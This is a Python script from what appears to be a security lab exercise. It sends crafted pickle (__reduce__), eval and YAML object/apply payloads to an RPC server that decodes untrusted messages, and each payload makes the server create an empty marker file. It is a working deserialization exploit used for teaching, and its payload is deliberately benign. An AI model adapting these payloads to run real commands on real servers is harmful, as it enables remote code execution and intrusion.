"""The attacker's side of an RPC server that decodes messages it should not trust: three
messages, each of which, if the server decodes it with pickle, eval or a full YAML loader,
opens a new empty file (MARKER.pickle, MARKER.eval, MARKER.yaml) on the server. Creating an
empty file in /tmp is all they do; a real attacker would run anything.
    docker exec www python3 /labs/ch18/mp_rpc.py server                # pickles, no authkey
    docker exec h1 python3 /labs/ch18/rpc_attack.py www /tmp/owned
    docker exec www ls /tmp/owned.pickle                               # it ran"""
import argparse
import pickle
from multiprocessing.connection import Client

import labkit

PORT = 18003


class OpensAFile:
    """Unpickling this calls open(path, "x"): pickle stores a callable and its arguments,
    and the receiver calls it. Nothing of this class is needed on the other side."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "x"))


def payloads(marker: str) -> dict[str, bytes]:
    return {
        "pickle": pickle.dumps(OpensAFile(f"{marker}.pickle")),
        "eval": f"__import__('builtins').open({marker + '.eval'!r}, 'x')".encode(),
        "yaml": f"!!python/object/apply:builtins.open [{marker + '.yaml'!r}, x]".encode(),
    }


def attack(host: str, port: int, kind: str, payload: bytes, wait: float) -> None:
    """Send one message on a connection of its own (no authkey: the attacker has none) and
    wait until the server answers or closes, so that it has surely decoded the message."""
    conn = Client((host, port))
    conn.send_bytes(payload)
    try:
        if conn.poll(wait):
            answer = conn.recv_bytes()
            print(f"{kind}: the server answered {answer[:60]!r}")
        else:
            print(f"{kind}: no answer in {wait} s")
    except (EOFError, OSError):
        print(f"{kind}: the server closed the connection")
    conn.close()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("host")
    parser.add_argument("marker", help="the path the payloads create, plus .pickle etc.")
    parser.add_argument("--port", type=labkit.port, default=PORT)
    parser.add_argument("--only", choices=["pickle", "eval", "yaml"])
    parser.add_argument("--wait", type=labkit.seconds, default=3)
    args = parser.parse_args()
    for kind, payload in payloads(args.marker).items():
        if args.only in (None, kind):
            attack(args.host, args.port, kind, payload, args.wait)


if __name__ == "__main__":
    labkit.main(main)
